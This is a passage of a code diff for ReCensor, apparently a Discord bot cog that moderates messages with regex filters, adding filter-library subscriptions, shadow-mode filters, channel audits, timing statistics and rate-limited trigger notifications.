+            for settings in self.settings.values():
+                settings.libraries.discard(library.name)
+
+        self.save(ctx.message.server.id)
+        await self.bot.say('%s was removed from library %s.' % (entry, library.name))
+
+    @recensor_library.command(pass_context=True, name='subscribe')
+    async def recensor_library_subscribe(self, ctx, library_name: str, enable: bool = False):
+        """
+        Subscribes this server to a library
+
+        Adds the library's filters to this server, enabled only if enable is yes. Filters added to the
+        library later are added here as well, disabled.
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+        library = self.libraries.get(library_name.lower())
+
+        if type(enable) is not bool:
+            enable = await ctx.command.do_conversion(ctx, bool, enable)
+
+        if not library:
+            await self.bot.say(warning('There is no library named "%s".' % library_name.lower()))
+            return
+        elif not settings:
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+
+        conflicts = [library.filter_name(e) for e in library.templates if settings.get_filter(library.filter_name(e))
+                     and settings.get_filter(library.filter_name(e)).library != (library.name, e)]
+
+        if conflicts:
+            await self.bot.say(warning('These filters already exist in this server: %s' % ', '.join(conflicts)))
+            return
+
+        added = [settings.add_library_filter(library, e, enabled=enable) for e in sorted(library.templates)]
+        settings.libraries.add(library.name)
+        self.save(server.id)
+
+        added = [f.name for f in added if f]
+        await self.bot.say('Subscribed to %s. %s' % (library.name, ('Added %s %s.' % (
+            'and enabled' if enable else '(disabled)', ', '.join(added))) if added else 'No filters were added.'))
+
+    @recensor_library.command(pass_context=True, name='unsubscribe')
+    async def recensor_library_unsubscribe(self, ctx, library_name: str):
+        """
+        Unsubscribes this server from a library, deleting its filters here
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+        library_name = library_name.lower()
+
+        if not (settings and library_name in settings.libraries):
+            await self.bot.say(warning('This server is not subscribed to "%s".' % library_name))
+            return
+
+        followers = settings.library_filters(library_name)
+        linked = [f.name for f in settings.filters.values() if f not in followers and
+                  any(link in followers for link in f.links.values())]
+
+        if linked:
+            await self.bot.say(warning("These filters have lists linked to the library's: %s" % ', '.join(linked)))
+            return
+        elif followers and not await self.confirm_thing(ctx, thing='delete %i filter(s) from library %s'
+                                                                  % (len(followers), library_name)):
+            return
+
+        # Lists may be linked between the library's filters, so delete the ones nothing links to first
+        while followers:
+            for f in list(followers):
+                if not any(f in g.links.values() for g in followers if g is not f):
+                    settings.delete_filter(f)
+                    followers.remove(f)
+
+        settings.libraries.discard(library_name)
+        self.save(server.id)
+        await self.bot.say('Unsubscribed from %s.' % library_name)
 
     @recensor.group(pass_context=True, name='server')
     @checks.admin_or_permissions(manage_server=True)
@@ -1691,8 +3954,8 @@ class ReCensor:
             priv_exempt = await ctx.command.do_conversion(ctx, bool, priv_exempt)
 
         if not settings:
-            self.settings[server.id] = settings = ServerConfig(self)
-            self.save()
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+            self.save(server.id)
 
         if priv_exempt is None:
             priv_exempt = settings.priv_exempt
@@ -1702,11 +3965,42 @@ class ReCensor:
         else:
             adj = 'now'
             settings.priv_exempt = priv_exempt
-            self.save()
+            self.save(server.id)
 
         desc = 'enabled' if priv_exempt else 'disabled'
         await self.bot.say('Server-wide privilege user exemption for is %s %s by default.' % (adj, desc))
 
+    @recensor_server.command(pass_context=True, name='msg-rate')
+    async def recensor_server_msg_rate(self, ctx, per_minute: int = None):
+        """
+        Show/set the trigger message rate limit
+
+        Trigger messages are combined per filter and author ("N messages removed"), and at most this many
+        are sent to a channel (or DM) per minute. Any more are summarized in one message or dropped.
+        0 means no limit.
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+
+        if not settings:
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+            self.save(server.id)
+
+        if per_minute is None:
+            per_minute = settings.flash_rate
+            adj = 'currently'
+        elif per_minute < 0:
+            return await self.bot.send_cmd_help(ctx)
+        elif settings.flash_rate == per_minute:
+            adj = 'already'
+        else:
+            adj = 'now'
+            settings.flash_rate = per_minute
+            self.save(server.id)
+
+        desc = ('%i per minute' % per_minute) if per_minute else 'unlimited'
+        await self.bot.say('Trigger messages are %s %s per channel.' % (adj, desc))
+
     @recensor_server.command(pass_context=True, name='asciify')
     async def recensor_server_asciify(self, ctx, asciify: bool = None):
         """
@@ -1725,8 +4019,8 @@ class ReCensor:
             asciify = await ctx.command.do_conversion(ctx, bool, asciify)
 
         if not settings:
-            self.settings[server.id] = settings = ServerConfig(self)
-            self.save()
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+            self.save(server.id)
 
         if asciify is None:
             asciify = settings.asciify
@@ -1736,7 +4030,8 @@ class ReCensor:
         else:
             adj = 'now'
             settings.asciify = asciify
-            self.save()
+            settings.invalidate()
+            self.save(server.id)
 
         msg = 'ASCIIfy is %s %s by default.' % (adj, 'enabled' if asciify else 'disabled')
 
@@ -1756,8 +4051,8 @@ class ReCensor:
         settings = self.settings.get(server.id)
 
         if not settings:
-            self.settings[server.id] = settings = ServerConfig(self)
-            self.save()
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+            self.save(server.id)
         elif not operation:
             ctx.view = StringView('SERVER')
             await self.recensor_list.invoke(ctx)
@@ -1773,8 +4068,8 @@ class ReCensor:
         settings = self.settings.get(server.id)
 
         if not settings:
-            self.settings[server.id] = settings = ServerConfig(self)
-            self.save()
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+            self.save(server.id)
         elif not operation:
             ctx.view = StringView('SERVER')
             await self.recensor_list.invoke(ctx)
@@ -1853,7 +4148,7 @@ class ReCensor:
             adj = 'now'
             _filter.enabled = enabled
             settings.update_order()
-            self.save()
+            self.save(server.id)
 
         desc = 'enabled' if enabled else 'disabled'
         await self.bot.say('%s is %s %s.' % (_filter.name, adj, desc))
@@ -1878,7 +4173,7 @@ class ReCensor:
             adj = 'now'
             _filter.enabled = False
             settings.update_order()
-            self.save()
+            self.save(server.id)
 
         await self.bot.say('%s is %s disabled.' % (_filter.name, adj))
 
@@ -1902,10 +4197,47 @@ class ReCensor:
             adj = 'now'
             _filter.enabled = True
             settings.update_order()
-            self.save()
+            self.save(server.id)
 
         await self.bot.say('%s is %s enabled.' % (_filter.name, adj))
 
+    @recensor_set.command(pass_context=True, name='shadow')
+    @checks.mod_or_permissions(manage_messages=True)
+    async def recensor_set_shadow(self, ctx, filter_name: str, shadow: bool = None):
+        """
+        Show/set filter shadow mode toggle
+
+        A shadow filter is run along with the others, but never deletes or exempts anything. Instead, the
+        messages it would have acted on are counted and sampled; see [p]recensor shadowlog.
+        While shadow mode is on, the filter runs whether it is enabled or not.
+
+        shadow must be a boolean option or left blank to show the current setting
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+        name = filter_name.lower()
+        _filter = settings and settings.get_filter(name)
+
+        if type(shadow) not in (bool, type(None)):
+            shadow = await ctx.command.do_conversion(ctx, bool, shadow)
+
+        if not _filter:
+            await self.bot.say(warning('There is no filter named "%s" in this server.' % name))
+            return
+        elif shadow is None:
+            shadow = _filter.shadow
+            adj = 'currently'
+        elif _filter.shadow == shadow:
+            adj = 'already'
+        else:
+            adj = 'now'
+            _filter.shadow = shadow
+            settings.update_order()
+            self.save(server.id)
+
+        desc = 'in shadow mode' if shadow else 'not in shadow mode'
+        await self.bot.say('%s is %s %s.' % (_filter.name, adj, desc))
+
     @recensor_set.command(pass_context=True, name='override')
     @checks.mod_or_permissions(manage_messages=True)
     async def recensor_set_override(self, ctx, filter_name: str, override: bool = None):
@@ -1934,7 +4266,7 @@ class ReCensor:
             adj = 'now'
             _filter.override = override
             settings.update_order()
-            self.save()
+            self.save(server.id)
 
         desc = 'enabled' if override else 'disabled'
         await self.bot.say('Filter override for %s is %s %s.' % (_filter.name, adj, desc))
@@ -1970,7 +4302,7 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.priv_exempt = None if priv_exempt is inherit else priv_exempt
-            self.save()
+            self.save(server.id)
 
         if priv_exempt in (None, inherit):
             desc = 'inherit (%s)' % ('enabled' if _filter.parent.priv_exempt else 'disabled')
@@ -2014,7 +4346,8 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.asciify = None if asciify is inherit else asciify
-            self.save()
+            settings.invalidate()
+            self.save(server.id)
 
         if asciify in (None, inherit):
             desc = 'inherit (%s)' % ('enabled' if _filter.parent.asciify else 'disabled')
@@ -2061,7 +4394,8 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.multi_msg = multi_msg
-            self.save()
+            settings.invalidate()
+            self.save(server.id)
 
         desc = 'enabled' if multi_msg else 'disabled'
         msg = 'Multi-message search for %s is %s %s.' % (_filter.name, adj, desc)
@@ -2097,7 +4431,7 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.multi_msg_join = join
-            self.save()
+            self.save(server.id)
 
         disp = '`"%s"`' % join.encode('unicode_escape').decode()
 
@@ -2143,7 +4477,7 @@ class ReCensor:
 
             adj = 'now'
             _filter.multi_msg_group = group
-            self.save()
+            self.save(server.id)
 
         await self.bot.say('Multi-message group for %s is %s %i.' % (_filter.name, adj, group))
 
@@ -2179,7 +4513,7 @@ class ReCensor:
             adj = 'now'
             _filter.mode = mode
             settings.update_order()
-            self.save()
+            self.save(server.id)
 
         desc = 'DO' if mode else 'do NOT'
         await self.bot.say('%s is %s set to only allow messages that %s match its pattern.'
@@ -2220,7 +4554,8 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.position = position
-            self.save()
+            _filter.rebuild_predicate()
+            self.save(server.id)
 
         if position is POSITION.START:
             desc = 'only at the beginning of the message'
@@ -2272,7 +4607,7 @@ class ReCensor:
             adj = 'now'
             _filter.flags = flags
             _filter.rebuild_predicate()
-            self.save()
+            self.save(server.id)
 
         if flags:
             desc = ':\n' + '\n'.join('`%c` - %s' % (k, FLAGS_DESC[k]) for k in flags)
@@ -2328,7 +4663,7 @@ class ReCensor:
 
             _filter.pattern = pattern
             _filter.rebuild_predicate()
-            self.save()
+            self.save(server.id)
 
         await self.bot.say('Pattern for %s %s' % (_filter.name, desc))
 
@@ -2363,7 +4698,8 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.attachment_header = attachment_header
-            self.save()
+            settings.invalidate()
+            self.save(server.id)
 
         desc = 'enabled' if attachment_header else 'disabled'
         msg = 'Attachment filename headers for %s are %s %s.' % (_filter.name, adj, desc)
@@ -2447,7 +4783,7 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.flash_msg = msg
-            self.save()
+            self.save(server.id)
 
         if msg:
             desc = ':\n\n' + msg
@@ -2483,7 +4819,7 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.flash_dm = msg_dm
-            self.save()
+            self.save(server.id)
 
         desc = 'enabled' if msg_dm else 'disabled'
         msg = 'DMing of trigger messages for %s is %s %s.' % (_filter.name, adj, desc)
@@ -2510,14 +4846,14 @@ class ReCensor:
         elif seconds is None:
             seconds = _filter.flash_sec
             adj = 'currently'
-        elif seconds > 60:
+        elif seconds > FLASH_MAX_SEC:
             return await self.bot.send_cmd_help(ctx)
         elif _filter.flash_sec == seconds:
             adj = 'already'
         else:
             adj = 'now'
             _filter.flash_sec = seconds
-            self.save()
+            self.save(server.id)
 
         if seconds > 0:
             extra = ''
@@ -2576,13 +4912,16 @@ class ReCensor:
                 await self.bot.say('Testing stopped.')
                 break
 
-            content = preprocess_msg(_filter, msg)
+            asciify = _filter.asciify or (_filter.asciify is None and settings.asciify)
+            content = preprocess_msg(msg, _filter.attachment_header, asciify)
+
+            rets = await self.check_filter(_filter, content)
+            match = any('match' in r for r in rets)
 
-            if _filter.asciify or (_filter.asciify is None and settings.asciify):
-                content = asciify_string(content)
+            if any('exception' in r for r in rets):
+                await self.bot.say(error('The filter took too long or failed on your message, so it would be skipped.'))
+                continue
 
-            match_dict = await self.bot.loop.run_in_executor(self.executor, _filter.predicate, content)
-            match = match_dict.get('match', False)
             wl_msg = 'Your message will **not** be deleted because it matched and the filter is in whitelist mode.'
             bl_msg = 'Your message **will** be deleted because it matched and the filter is in blacklist mode.'
             nm_msg = "Your message will **not** be deleted because it didn't match and the filter is in blacklist mode."
@@ -2652,6 +4991,283 @@ class ReCensor:
         msg = '\n'.join(lines)
         await self.bot.say(box(msg))
 
+    @recensor.command(pass_context=True, name='audit')
+    @checks.mod_or_permissions(manage_messages=True)
+    async def recensor_audit(self, ctx, count: int = 100, channel: discord.Channel = None):
+        """
+        Tests a channel's recent messages against all configured filters
+
+        Nothing is deleted. Messages are checked in batches of 100, each batch in one background job, and
+        the results summarized: which filters would have fired, how long they took and which messages
+        would have been deleted. Multi-message filters are left out, since they depend on when each
+        message was sent.
+
+        Channel defaults to the current channel, and count to 100 (1000 at most).
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+
+        if channel is None:
+            channel = ctx.message.channel
+
+        permissions = channel.permissions_for(ctx.message.author)
+
+        if not (settings and settings.order):
+            await self.bot.say(info('There are no enabled filters in this server.'))
+            return
+        elif channel.server != server or not (permissions.read_messages and permissions.read_message_history):
+            await self.bot.say(error("You can't read the message history of that channel."))
+            return
+
+        count = max(1, min(count, AUDIT_MAX_MESSAGES))
+        fired = Counter()
+        elapsed = defaultdict(float)
+        would_delete = []
+        batch = []
+        checked = 0
+
+        async def check_batch():
+            jobs = [settings.message_checks(m)[1:] for m in batch]
+            results = await settings.run_batch([j for j in jobs if j[0]])
+            results = iter(results)
+
+            for message, (checks, contents) in zip(batch, jobs):
+                if not checks:
+                    continue
+
+                filters = [settings.filters[name] for name, _, _ in checks]
+                matches = next(results)
+
+                for match_dict in matches:
+                    for r in (match_dict if type(match_dict) is list else [match_dict]):
+                        elapsed[r['name']] += r.get('time', 0)
+
+                for f, _ in settings.shadow_hits(filters, checks, matches, contents):
+                    fired[f.name + '~'] += 1
+
+                filter_hit, delete, match = settings.message_outcome(filters, matches)
+
+                if filter_hit:
+                    fired[filter_hit.name] += 1
+
+                if delete:
+                    would_delete.append((message, filter_hit, match))
+
+            batch.clear()
+
+        await self.bot.type()
+
+        try:
+            async for message in self.bot.logs_from(channel, limit=count):
+                if message.author == self.bot.user:
+                    continue
+
+                batch.append(message)
+                checked += 1
+
+                if len(batch) >= AUDIT_BATCH_SIZE:
+                    await check_batch()
+
+            if batch:
+                await check_batch()
+        except discord.HTTPException:
+            await self.bot.say(error('Retrieving the messages failed.'))
+            return
+        except (asyncio.TimeoutError, BrokenProcessPool):
+            await self.bot.say(error('A batch of messages took too long to check.'))
+            return
+
+        lines = ['%i messages checked, %i would have been deleted.\n' % (checked, len(would_delete)),
+                 '%-24s %6s %10s' % ('Filter', 'Fired', 'Time (ms)')]
+
+        for name, t in sorted(elapsed.items(), key=lambda kv: kv[1], reverse=True):
+            shadow = settings.filters[name].shadow if name in settings.filters else False
+            hits = fired[name + '~' if shadow else name]
+            lines.append('%-24s %6i %10.1f' % ((name + '~' if shadow else name)[:24], hits, t * 1000))
+
+        if would_delete:
+            lines.append('')
+
+        # messages come newest first
+        if len(would_delete) > AUDIT_LISTED_MESSAGES:
+            lines.append('(%i older message(s) not listed)' % (len(would_delete) - AUDIT_LISTED_MESSAGES))
+
+        for message, filter_hit, match in reversed(would_delete[:AUDIT_LISTED_MESSAGES]):
+            desc = match or message.content or '(attachment)'
+            lines.append('[%s] %s (%s): %s' % (message.timestamp.strftime('%Y-%m-%d %H:%M'), message.author,
+                                               filter_hit.name if filter_hit else '<ambiguous>',
+                                               ellipsize(desc.replace('\n', ' '), to_length=60)))
+
+        lines.append('\n~ shadow. Fired counts deciding hits, or messages a shadow filter would have acted on.')
+        await self.say_paged('\n'.join(lines))
+
+    @recensor.command(pass_context=True, name='startup')
+    @checks.is_owner()
+    async def recensor_startup(self, ctx, warm_up: bool = None):
+        """
+        Shows how long loading took, or sets whether to compile filters in the background after loading
+
+        Without warm up, each server's filters are compiled when its first message is checked.
+        """
+        if type(warm_up) not in (bool, type(None)):
+            warm_up = await ctx.command.do_conversion(ctx, bool, warm_up)
+
+        if warm_up is not None:
+            self.misc_data['warm_up'] = warm_up
+            self.schedule_save()
+            await self.bot.say('Filters will %sbe compiled in the background after loading.'
+                               % ('' if warm_up else 'not '))
+            return
+
+        lines = ['%-16s %8.3fs' % kv for kv in self.startup_times.items()]
+        compiled = sum(1 for s in self.settings.values() if s._filterset is not None)
+
+        if 'warm up' not in self.startup_times:
+            lines.append('%-16s %9s' % ('warm up', 'disabled' if self._warm_up_task is None else 'pending'))
+
+        lines.append('\n%i of %i servers have compiled filters.' % (compiled, len(self.settings)))
+        await self.bot.say(box('\n'.join(lines)))
+
+    @recensor.command(pass_context=True, name='cache')
+    @checks.is_owner()
+    async def recensor_cache(self, ctx):
+        """
+        Shows the size of the message history cache
+
+        Histories of recent messages are kept per channel and author for multi-message filters.
+        Expired histories are swept before reporting.
+        """
+        cache = self._message_cache
+        cache.sweep()
+        server = ctx.message.server
+        in_server = [w for w in cache.values() if next(iter(w.values())).server == server]
+
+        lines = [
+            'Histories        : %i (%i in this server)' % (len(cache), len(in_server)),
+            'Messages         : %i (%i in this server)' % (sum(map(len, cache.values())),
+                                                          sum(map(len, in_server))),
+            'Estimated size   : %.1f KiB' % (cache.size / 1024),
+            'Budget           : %.1f KiB' % (cache.max_bytes / 1024),
+            'Evicted histories: %i' % cache.evictions
+        ]
+
+        await self.bot.say(box('\n'.join(lines)))
+
+    @recensor.command(pass_context=True, name='slow')
+    @checks.mod_or_permissions(manage_messages=True)
+    async def recensor_slow(self, ctx, count: int = 10):
+        """
+        Lists the slowest filters in this server
+
+        Times are taken from the most recent runs of each filter since the cog was loaded.
+        Filters that exceed the time budget too many times are disabled automatically.
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+
+        if not (settings and settings.filters):
+            await self.bot.say(info('There are no filters in this server to show.'))
+            return
+
+        timed = [f for f in settings.filters.values() if f.stats.times or f.stats.timeouts]
+
+        if not timed:
+            await self.bot.say(info('No timing data has been collected in this server yet.'))
+            return
+
+        timed.sort(key=lambda f: (f.stats.timeouts, f.stats.percentile(0.99) or 0), reverse=True)
+        lines = ['%-24s %6s %9s %9s %8s' % ('Filter', 'Runs', 'p50 (ms)', 'p99 (ms)', 'Timeouts')]
+
+        for f in timed[:count]:
+            p50, p99 = (f.stats.percentile(p) for p in (0.5, 0.99))
+            name = f.name if f.enabled else f.name + ('~' if f.shadow else '*')
+            lines.append('%-24s %6i %9s %9s %8i' % (name[:24], len(f.stats.times),
+                                                   '-' if p50 is None else '%.3f' % (p50 * 1000),
+                                                   '-' if p99 is None else '%.3f' % (p99 * 1000),
+                                                   f.stats.timeouts))
+
+        lines.append('\n* disabled, ~ shadow. Budget: %ims per run, filters are disabled after %i timeouts.'
+                     % (FILTER_TIME_BUDGET * 1000, FILTER_TIMEOUT_STRIKES))
+        await self.bot.say(box('\n'.join(lines)))
+
+    @recensor.command(pass_context=True, name='stats')
+    @checks.mod_or_permissions(manage_messages=True)
+    async def recensor_stats(self, ctx, count: int = 10):
+        """
+        Lists the filters in this server that cost the most CPU time
+
+        Runs counts actual pattern evaluations; skipped checks were answered by the literal prefilter or a
+        merged gate without running the filter. Wait is the executor overhead attributed to the filter.
+        Counters are kept across reloads, while p99 only covers the most recent runs.
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+
+        if not (settings and settings.filters):
+            await self.bot.say(info('There are no filters in this server to show.'))
+            return
+
+        counted = [f for f in settings.filters.values() if f.stats.evaluations or f.stats.skips]
+
+        if not counted:
+            await self.bot.say(info('No statistics have been collected in this server yet.'))
+            return
+
+        counted.sort(key=lambda f: f.stats.total_time, reverse=True)
+        lines = ['%-24s %8s %8s %6s %10s %9s %9s' % ('Filter', 'Runs', 'Skipped', 'Hits', 'Total (ms)',
+                                                     'p99 (ms)', 'Wait (ms)')]
+
+        for f in counted[:count]:
+            p99 = f.stats.percentile(0.99)
+            name = f.name if f.enabled else f.name + ('~' if f.shadow else '*')
+            lines.append('%-24s %8i %8i %6i %10.1f %9s %9.1f' % (name[:24], f.stats.evaluations, f.stats.skips,
+                                                                f.stats.hits, f.stats.total_time * 1000,
+                                                                '-' if p99 is None else '%.3f' % (p99 * 1000),
+                                                                f.stats.wait_time * 1000))
+
+        cache_info = _asciify_string.cache_info()
+        lines.append('\n* disabled, ~ shadow. ASCIIfy cache: %i hits, %i misses, %i/%i entries.'
+                     % (cache_info.hits, cache_info.misses, cache_info.currsize, cache_info.maxsize))
+        await self.bot.say(box('\n'.join(lines)))
+
+    @recensor.command(pass_context=True, name='shadowlog')
+    @checks.mod_or_permissions(manage_messages=True)
+    async def recensor_shadowlog(self, ctx, filter_name: str):
+        """
+        Shows what a shadow filter would have done
+
+        Lists the number of messages the filter would have deleted (or, for a whitelist, failed to match)
+        and the most recent of them, to judge its hit and false positive rates before enabling it.
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+        name = filter_name.lower()
+        _filter = settings and settings.get_filter(name)
+
+        if not _filter:
+            await self.bot.say(warning('There is no filter named "%s" in this server.' % name))
+            return
+
+        stats = _filter.stats
+        header = '%s would have acted on %i of %i evaluated messages (%i skipped).' \
+                 % (_filter.name, stats.shadow_hits, stats.evaluations, stats.skips)
+
+        if not _filter.shadow:
+            header += ' It is not in shadow mode now.'
+
+        lines = []
+
+        for sample in reversed(stats.samples):
+            channel = server.get_channel(sample['channel'])
+            lines.append('[%s] #%s <%s>: %s' % (sample['time'][:19].replace('T', ' '),
+                                                channel.name if channel else sample['channel'],
+                                                sample['author'], sample['excerpt'].replace('\n', ' ')))
+
+        if lines:
+            await self.say_paged('\n'.join(lines), header=header)
+        else:
+            await self.bot.say(header)
+
     @recensor.command(pass_context=True, name='regex101', aliases=['101'], rest_is_raw=True)
     @checks.mod_or_permissions(manage_messages=True)
     async def recensor_regex101(self, ctx, filter_name: str = None, *, test_message: str = None):
@@ -2780,7 +5396,10 @@ class ReCensor:
             await self._list_command_show_help(ctx, parent, _list, operation=operation, msg=error(fail_msg))
             return
 
-        return await func(ctx, parent, _list, *args)
+        try:
+            return await func(ctx, parent, _list, *args)
+        finally:
+            (parent if isinstance(parent, ServerConfig) else parent.parent).invalidate_lists()
 
     async def _list_command_show_help(self, ctx, parent, _list: FilterList, *, operation: Optional[str] = None,
                                       msg: Optional[str] = None, show_all=False, show_fullhelp=False):
@@ -2870,7 +5489,7 @@ class ReCensor:
                 return
 
             _list.enabled = enabled
-            self.save()
+            self.save(ctx.message.server.id)
 
         await self.bot.say('List is %s %s.' % (adj, 'enabled' if enabled else 'disabled'))
 
@@ -2904,7 +5523,7 @@ class ReCensor:
                 return
 
             _list.mode = mode
-            self.save()
+            self.save(ctx.message.server.id)
 
         await self.bot.say('Mode is %s %s.' % (adj, 'whitelist' if mode else 'blacklist'))
 
@@ -2928,7 +5547,7 @@ class ReCensor:
                 return
 
             _list.overlay = overlay
-            self.save()
+            self.save(ctx.message.server.id)
 
         await self.bot.say('Overlay mode is %s %s.' % (adj, 'enabled' if overlay else 'disabled (standalone)'))
 
@@ -2955,7 +5574,7 @@ class ReCensor:
                                    box('{0.__class__.__name__}: '.format(e) +
                                        ', '.join((x if type(x) is str else repr(x)) for x in e.args)))
 
-            self.save()
+            self.save(ctx.message.server.id)
             await self.bot.say("List linked.")
 
     async def _list_command_unlink(self, ctx, parent, _list):
@@ -2974,7 +5593,7 @@ class ReCensor:
                                    box('{0.__class__.__name__}: '.format(e) +
                                        ', '.join((x if type(x) is str else repr(x)) for x in e.args)))
 
-            self.save()
+            self.save(ctx.message.server.id)
             await self.bot.say("List unlinked and replaced with a copy of the former link target.")
 
     async def _list_command_add(self, ctx, parent, _list, *items: ItemTypeReference):
@@ -3004,7 +5623,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('Added %i item(s).%s' % (num_added, extra))
 
     async def _list_command_remove(self, ctx, parent, _list, *items: ItemTypeReference):
@@ -3026,7 +5645,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('Removed %i item(s).' % num_removed)
 
     async def _list_command_cleanup(self, ctx, parent, _list):
@@ -3050,7 +5669,7 @@ class ReCensor:
 
             if to_remove:
                 _list.items -= to_remove
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('Removed %i references to deleted items.' % len(to_remove))
             else:
                 await self.bot.say('Nothing to remove.')
@@ -3087,7 +5706,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, new_id_list):
                 _list.items.clear()
                 _list.items.update(new_id_list)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List inverted.')
 
     async def _list_command_clear(self, ctx, parent, _list):
@@ -3104,7 +5723,7 @@ class ReCensor:
                 return
             elif await self.confirm_thing(ctx, thing="clear this list?", require_yn=True):
                 _list.items.clear()
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List cleared.')
 
     async def _list_command_replace(self, ctx, parent, _list, other_filter: FilterBase):
@@ -3124,7 +5743,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, other_list.items):
                 _list.items.clear()
                 _list.items.update(other_list.items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List updated.')
 
     async def _list_command_union(self, ctx, parent, _list, other_filter: FilterBase):
@@ -3146,7 +5765,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List updated.')
 
     async def _list_command_difference(self, ctx, parent, _list, other_filter: FilterBase):
@@ -3168,7 +5787,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List updated.')
 
     async def _list_command_intersect(self, ctx, parent, _list, other_filter: FilterBase):
@@ -3190,7 +5809,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List updated.')
 
     async def _list_command_symdiff(self, ctx, parent, _list, other_filter: FilterBase):
@@ -3212,7 +5831,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List updated.')
 
     async def _list_command_confirm_diff(self, ctx, _list, updated_items: set, *, title: str = "Updated list:"):
@@ -3317,7 +5936,7 @@ class ReCensor:
                 return False
 
     def is_mod_or_superior(self, obj):  # Copied from red core mod.py
-        if not isinstance(obj, (Message, discord.Member, discord.Role)):
+        if not isinstance(obj, (Message, CachedMessage, discord.Member, discord.Role)):
             raise TypeError('Only messages, members or roles may be passed')
 
         server = obj.server
@@ -3326,7 +5945,7 @@ class ReCensor:
 
         if isinstance(obj, discord.Role):
             return obj.name in [admin_role, mod_role]
-        elif isinstance(obj, Message):
+        elif isinstance(obj, (Message, CachedMessage)):
             user = obj.author
         elif isinstance(obj, discord.User):
             user = obj
@@ -3346,6 +5965,37 @@ class ReCensor:
 
         return False
 
+    def is_privileged(self, message: Union[Message, CachedMessage]) -> bool:
+        """
+        Cached is_mod_or_superior for a message's author.
+
+        Members are dropped from the cache when they're updated or leave, and a server's entries are
+        discarded when one of its roles is renamed or deleted, or the admin/mod role names or bot owners
+        change.
+        """
+        server = message.server
+        settings = self.bot.settings
+        snapshot = (settings.get_server_admin(server), settings.get_server_mod(server), settings.owner,
+                    tuple(settings.co_owners))
+        cached = self._privileged.get(server.id)
+
+        if cached is None or cached[0] != snapshot:
+            cached = self._privileged[server.id] = (snapshot, BoundedOrderedDict(maxlen=PRIVILEGE_CACHE_SIZE))
+
+        members = cached[1]
+        author_id = message.author.id
+
+        if author_id not in members:
+            members[author_id] = self.is_mod_or_superior(message)
+
+        return members[author_id]
+
+    def forget_member(self, member: discord.Member):
+        cached = self._privileged.get(member.server.id)
+
+        if cached:
+            cached[1].pop(member.id, None)
+
     async def post_flash(self, filter_hit: Filter, first_message: Message, **kwargs):
         if filter_hit.flash_sec == -1 or not filter_hit.flash_msg:
             return
@@ -3353,37 +6003,16 @@ class ReCensor:
         data = dict(
             author=first_message.author,
             channel=first_message.channel,
-            filter=filter,
+            filter=filter_hit,
             messages=[],
             match=None
         )
         data.update(kwargs)
 
-        # check if message is too long, if so then ellipsize match
-        msg = filter_hit.flash_msg.format(**data)
-
-        if len(msg) > 2000:
-            over = len(msg) - 2000
-            data["match"] = ellipsize(data["match"], by=over)
-            msg = filter_hit.flash_msg.format(**data)
+        destination = first_message.author if filter_hit.flash_dm else first_message.channel
+        self._flashes.add(filter_hit, destination, data, filter_hit.parent.flash_rate)
 
-        try:
-            destination = first_message.author if filter_hit.flash_dm else first_message.channel
-            msg = await self.bot.send_message(destination, msg)
-
-            if filter_hit.flash_sec > 0 and not filter_hit.flash_dm:
-                async def delete_task():
-                    await asyncio.sleep(filter_hit.flash_sec)
-                    await self.bot.delete_message(msg)
-
-                self.bot.loop.create_task(delete_task())
-        except Exception:
-            logger.exception('error sending notification for filter %s on message %s/%s/%s by %s' %
-                             (filter_hit.name, first_message.server.id, first_message.channel.id,
-                              first_message.id, first_message.author.id))
-            return
-
-        logger.debug('sent notification for filter %s on message %s/%s/%s by %s' %
+        logger.debug('queued notification for filter %s on message %s/%s/%s by %s' %
                      (filter_hit.name, first_message.server.id, first_message.channel.id,
                       first_message.id, first_message.author.id))
 
